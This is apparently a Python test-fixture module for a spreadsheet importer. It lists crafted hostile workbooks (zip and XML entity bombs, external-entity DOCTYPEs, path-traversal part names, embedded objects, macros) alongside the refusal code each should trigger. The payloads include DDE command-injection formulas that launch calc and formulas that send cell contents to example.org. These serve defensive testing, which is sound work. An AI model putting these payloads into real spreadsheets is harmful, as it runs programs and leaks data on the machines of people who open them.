"""Files that would harm whoever reads them trustingly, each with the code of its finding."""

from __future__ import annotations

import struct
from collections.abc import Callable

from danvan_xl.addin.compound import compound_file
from tests.ooxml.handmade import (
    OFFICE,
    prefixed,
    rich,
    small,
    types,
    unzipped,
    with_parts,
)
from tests.submissions.hostile_makers import (
    BASIC_LIBRARY,
    BOOK,
    BOOK_LINKS,
    LAUGHS,
    OUTSIDE,
    SHEET,
    SHEET_LINKS,
    XML_2003,
    bare_xls,
    bomb,
    cell,
    damaged_part,
    declared,
    in_utf16,
    lying_bomb,
    macro_sheet,
    manifest_entry,
    many_parts,
    nested,
    ods_table,
    open_document,
    overlapping,
    plain,
    record,
    repeated_text,
    supbook,
    two_files_in_one,
    with_directory_name,
    with_entry_twice,
    with_external_link,
    with_flag,
    with_formula,
    with_formula_part,
    with_links,
    with_part,
)

Maker = Callable[[], bytes]

_MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"
_VBA = f"{_MICROSOFT}/vbaProject"
_DDE = (
    '<ddeLink ddeService="cmd" ddeTopic="/C calc"><ddeItems><ddeItem name="A0"/></ddeItems>'
    "</ddeLink>"
)
_OTHER_BOOK = (
    '<externalBook r:id="rId1"><sheetNames><sheetName val="S"/></sheetNames></externalBook>'
)

REFUSED: dict[str, tuple[Maker, str]] = {
    "a sheet that unpacks to 300 MB": (bomb, "T07"),
    "the same with a small size claimed": (lying_bomb, "T07"),
    "too many parts": (many_parts, "T07"),
    "an attribute of 50 MB": (lambda: small("", after=f'<a b="{"x" * 50_000_000}"/>'), "T07"),
    "millions of shared texts": (
        lambda: with_part("xl/sharedStrings.xml", "<sst>" + "<si/>" * 3_500_000 + "</sst>"),
        "T07",
    ),
    "one long text in many cells": (repeated_text, "T07"),
    "a cell at the end of the sheet": (lambda: small(cell("XFD1048576")), "T07"),
    "two cells far apart": (lambda: small(cell("A1") + cell("XFD1048576")), "T07"),
    "a cell far to the right in each of many rows": (
        lambda: small(cell("A1") + cell("XFD2000")),
        "T07",
    ),
    "a cell that claims another row": (
        lambda: small('<row r="1"><c r="A1048576"><v>1</v></c></row>'),
        "T05",
    ),
    "an entity that grows": (lambda: declared(LAUGHS), "T10"),
    "a DOCTYPE from the web": (lambda: declared(OUTSIDE), "T10"),
    "a DOCTYPE in UTF-16": (lambda: declared(LAUGHS, utf16=True), "T10"),
    "a DOCTYPE in the workbook part": (lambda: declared(OUTSIDE, BOOK), "T10"),
    "a DOCTYPE in a list of links": (lambda: declared(OUTSIDE, BOOK_LINKS), "T10"),
    "a DOCTYPE in the content types": (lambda: declared(OUTSIDE, "[Content_Types].xml"), "T10"),
    "a DOCTYPE in a part that is no XML by name": (
        lambda: with_part("xl/media/a.png", f"<?xml version='1.0'?>{LAUGHS}<a/>"),
        "T10",
    ),
    "a part in UTF-16": (
        lambda: with_part(SHEET, in_utf16(unzipped(plain())[SHEET].decode())),
        "T05",
    ),
    "a part in an encoding that hides tags": (
        lambda: with_part("a.xml", b"<?xml version='1.0' encoding='utf-7'?>+ADw-a/+AD4-"),
        "T05",
    ),
    "a part in Latin-1": (
        lambda: with_part("a.xml", b"<?xml version='1.0' encoding='iso-8859-1'?><a>\xe9</a>"),
        "T05",
    ),
    "a value cut in two by a comment": (
        lambda: small('<row r="1"><c r="A1"><v>1<!-- a -->2</v></c></row>'),
        "T05",
    ),
    "a number without an end": (lambda: small(cell("A1", "1e999")), "T05"),
    "two cells at one place": (
        lambda: small('<row r="1"><c r="A1"><v>1</v></c><c r="A1"><v>2</v></c></row>'),
        "T05",
    ),
    "XML cut in the middle": (lambda: with_part(SHEET, unzipped(plain())[SHEET][:-40]), "T05"),
    "XML 100,000 elements deep": (nested, "T05"),
    "a file cut in the middle": (lambda: plain()[: len(plain()) // 2], "T05"),
    "a file without its end": (lambda: plain()[:-10], "T05"),
    "a file with something before it": (two_files_in_one, "T05"),
    "a damaged part": (damaged_part, "T05"),
    "a part above the folder": (lambda: with_directory_name("aaaa.xml", "../a.xml"), "T10"),
    "a part at the root": (lambda: with_directory_name("aa.xml", "/a.xml"), "T10"),
    "a part on a drive": (lambda: with_directory_name("aaa.xml", "C:a.xml"), "T10"),
    "a part with backslashes": (lambda: with_directory_name("xl/a.xml", "xl\\a.xml"), "T10"),
    "a part with a NUL in its name": (lambda: with_directory_name("aa.xml", "a\0.xml"), "T10"),
    "a part that is there twice": (lambda: with_entry_twice("xl/worksheets/sheet1.xml"), "T10"),
    "the same in capitals": (lambda: with_entry_twice("XL/worksheets/sheet1.xml"), "T10"),
    "parts that overlap": (overlapping, "T10"),
    "an encrypted part": (lambda: with_flag(0x1), "T04"),
    "a link to another workbook": (
        lambda: with_external_link(_OTHER_BOOK, "file:///C:/so-lieu.xlsx"),
        "T11",
    ),
    "a link to another workbook, nowhere": (lambda: with_external_link(_OTHER_BOOK), "T11"),
    "a link by DDE": (lambda: with_external_link(_DDE), "T12"),
    "a link to an OLE object": (
        lambda: with_external_link('<oleLink r:id="rId1" progId="Word.Document"/>', "file:///a"),
        "T13",
    ),
    "a link that no hyperlink makes": (
        lambda: with_links(SHEET_LINKS, ("attachedTemplate", "http://example.org/a", True)),
        "T11",
    ),
    "a picture from a share": (
        lambda: with_links(SHEET_LINKS, ("image", "file://pc/share/a.png", True)),
        "T11",
    ),
    "a connection": (
        lambda: with_links(BOOK_LINKS, ("connections", "connections.xml", False)),
        "T11",
    ),
    "a query table": (lambda: with_links(SHEET_LINKS, ("queryTable", "../q.xml", False)), "T11"),
    "an embedded object": (
        lambda: with_links(SHEET_LINKS, ("oleObject", "../embeddings/oleObject1.bin", False)),
        "T13",
    ),
    "an embedded file": (
        lambda: with_links(SHEET_LINKS, ("package", "../embeddings/a.docx", False)),
        "T13",
    ),
    "an embedded object that nothing links to": (lambda: with_part("xl/embeddings/a.bin"), "T13"),
    "an ActiveX control": (
        lambda: with_links(SHEET_LINKS, ("control", "../activeX/activeX1.xml", False)),
        "T14",
    ),
    "a command typed as a formula": (lambda: with_formula("cmd|'/C calc'!A0"), "T12"),
    "a command behind a sum": (lambda: with_formula("1+cmd|'/C calc'!A0"), "T12"),
    "a command spelt in references": (lambda: with_formula("cmd&#124;'/C calc'!A0"), "T12"),
    "a command behind an odd column": (
        lambda: with_formula("t[a'#]+cmd|'/C calc'!A0&amp;\"'\""),
        "T12",
    ),
    "a question to the web": (
        lambda: with_formula('_xlfn.WEBSERVICE("http://example.org")'),
        "T12",
    ),
    "the same in small letters": (lambda: with_formula('webservice ("http://example.org")'), "T12"),
    "a link that carries a cell away": (
        lambda: with_formula('HYPERLINK("http://example.org/?"&amp;B1,"xem")'),
        "T12",
    ),
    "a link to a program": (lambda: with_formula('HYPERLINK("file:///C:/a.exe")'), "T12"),
    "real-time data": (lambda: with_formula('RTD("a.b",,"c")'), "T12"),
    "a command in a defined name": (
        lambda: small(
            cell("A1"),
            names="<definedNames><definedName name='a'>cmd|'/C calc'!A0</definedName>"
            "</definedNames>",
        ),
        "T12",
    ),
    "a command behind white space": (
        lambda: with_part(
            SHEET,
            " \n" * 300 + with_formula_part("cmd|'/C calc'!A0"),
        ),
        "T12",
    ),
    "a command in a sheet that is called a drawing": (
        lambda: with_part("xl/a.vml", with_formula_part("cmd|'/C calc'!A0")),
        "T12",
    ),
    "a command in prefixed XML": (lambda: prefixed(with_formula("cmd|'/C calc'!A0")), "T12"),
    "a formula with a path": (lambda: with_formula("'C:\\a\\[b.xlsx]S'!A1"), "T11"),
    "an .ods with a linked sheet": (
        lambda: open_document(
            ods_table(before='<table:table-source xlink:href="file:///C:/a.ods"/>')
        ),
        "T11",
    ),
    "an .ods with DDE": (
        lambda: open_document(
            ods_table() + "<table:dde-links><table:dde-link><office:dde-source "
            'office:dde-application="cmd" office:dde-topic="/C calc"/></table:dde-link>'
            "</table:dde-links>"
        ),
        "T12",
    ),
    "an .ods that asks the web": (
        lambda: open_document(ods_table("table:formula='of:=WEBSERVICE(&quot;http://a&quot;)'")),
        "T12",
    ),
    "an .ods with a formula on another file": (
        lambda: open_document(ods_table("""table:formula="of:=['file:///C:/a.ods'#$S.A1]\"""")),
        "T11",
    ),
    "an .ods with an embedded document": (
        lambda: open_document(
            ods_table(),
            manifest_entry("Object 1/", "application/vnd.oasis.opendocument.text"),
        ),
        "T13",
    ),
    "an .ods with a linked document": (
        lambda: open_document(f'<draw:object xlink:href="file:///C:/a.odt"/>{ods_table()}'),
        "T13",
    ),
    "an .ods with a password": (
        lambda: open_document(
            ods_table(),
            manifest_entry("content.xml", "text/xml", "<manifest:encryption-data/>"),
        ),
        "T04",
    ),
    "an .ods with a DOCTYPE": (
        lambda: with_parts(
            open_document(ods_table()), {"content.xml": f"<?xml version='1.0'?>{LAUGHS}<a/>"}
        ),
        "T10",
    ),
    "an .xls with a password": (lambda: bare_xls(record(0x2F, bytes(6))), "T04"),
    "an .xls with a link": (lambda: bare_xls(supbook("\x01C\x03so-lieu.xls", 1)), "T11"),
    "an .xls of Excel 5 with a link": (
        lambda: bare_xls(record(0x17, b"\x09\x01\x01Cso.xls"), version=0x500),
        "T11",
    ),
    "an .xls with a query": (lambda: bare_xls(record(0xDC, bytes(12))), "T11"),
    "an .xls with DDE": (lambda: bare_xls(supbook("cmd\x03/C calc", 0)), "T12"),
    "an .xls with an embedded object": (
        lambda: compound_file({"Workbook": bare_xls(), "MBD0001": {"\x01Ole": bytes(20)}}),
        "T13",
    ),
    "an .xls with ActiveX": (
        lambda: compound_file({"Workbook": bare_xls(), "Ctls": bytes(20)}),
        "T14",
    ),
    "an .xlsx with a password": (
        lambda: compound_file({"EncryptedPackage": bytes(5000), "EncryptionInfo": bytes(100)}),
        "T04",
    ),
    "a compound file cut in the middle": (
        lambda: compound_file({"Workbook": bare_xls() + bytes(9000)})[:1500],
        "T05",
    ),
    "an HTML page with an entity": (
        lambda: b"<!DOCTYPE html [<!ENTITY a 'b'>]><html><table><tr><td>1</table>",
        "T10",
    ),
    "a page that starts a program": (
        lambda: b"<html><table><tr><td>=cmd|'/C calc'!A0</td></tr></table>",
        "T12",
    ),
    "an XML workbook with an entity": (
        lambda: f"<?xml version='1.0'?>{LAUGHS}<Workbook xmlns='{XML_2003}'/>".encode(),
        "T10",
    ),
    "an XML workbook in UTF-16 with an entity": (
        lambda: in_utf16(f"<?xml version='1.0'?>{LAUGHS}<Workbook xmlns='{XML_2003}'/>"),
        "T10",
    ),
    "an XML workbook that starts a program": (
        lambda: (
            f'<Workbook xmlns="{XML_2003}"><Cell ss:Formula="=cmd|\'/C calc\'!A0"/></Workbook>'
            "".encode()
        ),
        "T12",
    ),
    "text that starts a program": (lambda: b"a;b\n1;=cmd|'/C calc'!A0\n", "T12"),
    "text that starts a program behind a sum": (
        lambda: b"a,b\n@SUM(1+1)*cmd|'/C calc'!A0,2\n",
        "T12",
    ),
}
"""What it is → its maker and the code that import must give; all of them are small files."""

MACROS: dict[str, Maker] = {
    "VBA in a workbook": lambda: with_parts(
        with_links(BOOK_LINKS, (_VBA, "vbaProject.bin", False)), {"xl/vbaProject.bin": "x"}
    ),
    "a workbook that Excel saved": rich,
    "a sheet of Excel 4 macros": macro_sheet,
    "Basic in an .ods": lambda: open_document(ods_table(), {"Basic/Standard/M.xml": BASIC_LIBRARY}),
    "VBA in an .xls": lambda: compound_file(
        {"Workbook": bare_xls(), "_VBA_PROJECT_CUR": {"PROJECT": bytes(20)}}
    ),
    "a sheet of Excel 4 macros in an .xls": lambda: bare_xls(record(0x85, bytes(5) + b"\1\1M")),
}
"""What is taken, with a word about its macros."""

HARMLESS: dict[str, Maker] = {
    "a number": plain,
    "the same, prefixed": lambda: prefixed(plain()),
    "a hyperlink to the web": lambda: with_links(
        SHEET_LINKS, ("hyperlink", "https://example.org/a?b=1", True)
    ),
    "a hyperlink to a file": lambda: with_links(
        SHEET_LINKS, ("hyperlink", "file:///C:/a.docx", True)
    ),
    "a picture from the web": lambda: with_links(
        SHEET_LINKS, ("image", "https://example.org/a.png", True)
    ),
    "a link within the file": lambda: with_formula('HYPERLINK("#\'Kết quả\'!B4","xem")'),
    "a written out web page": lambda: with_formula('HYPERLINK("https://example.org/a","xem")'),
    "a bar in a text": lambda: with_formula('IF(A1=1,"Sai | Lỗi!","cmd|x")'),
    "a bar in the name of a sheet": lambda: with_formula("'A|B'!A1+1"),
    "a bar in the name of a column": lambda: with_formula("SUM(tblA[Đạt|Không])"),
    "a declared type of objects": lambda: with_parts(
        plain(),
        {
            "[Content_Types].xml": types(
                {BOOK: f"{OFFICE}.sheet.main+xml", SHEET: f"{OFFICE}.worksheet+xml"}
            ).replace("vbaProject", "oleObject")
        },
    ),
    "form controls": lambda: with_links(SHEET_LINKS, ("ctrlProp", "../ctrlProps/a.xml", False)),
    "sloppy drawings": lambda: with_part("xl/drawings/a.vml", "<xml><br></xml>"),
    "rows formatted to the end of the sheet": lambda: small(
        cell("A1") + '<row r="1048576"><c r="XFD1048576" s="2"/></row>'
    ),
    "an .ods": lambda: open_document(ods_table(), {"Configurations2/a.xml": ""}),
    "an .ods with a chart": lambda: open_document(
        '<draw:object xlink:href="./Object 1"/>' + ods_table(),
        manifest_entry("Object 1/", "application/vnd.oasis.opendocument.chart"),
    ),
    "an .xls that names its own sheets": lambda: bare_xls(
        record(0x1AE, struct.pack("<HH", 1, 0x0401)), record(0x1AE, struct.pack("<HH", 1, 0x3A01))
    ),
    "an .xls with very many sheets": lambda: bare_xls(
        record(0x17, struct.pack("<H", 300) + bytes(6 * 300))
    ),
    "an HTML page": lambda: b"<!DOCTYPE html><html><table><tr><td>1</td></tr></table></html>",
    "text with bars": lambda: "Mã|Số\n- Tốt | đạt!|2\n".encode(),
}
"""What is taken without a word."""
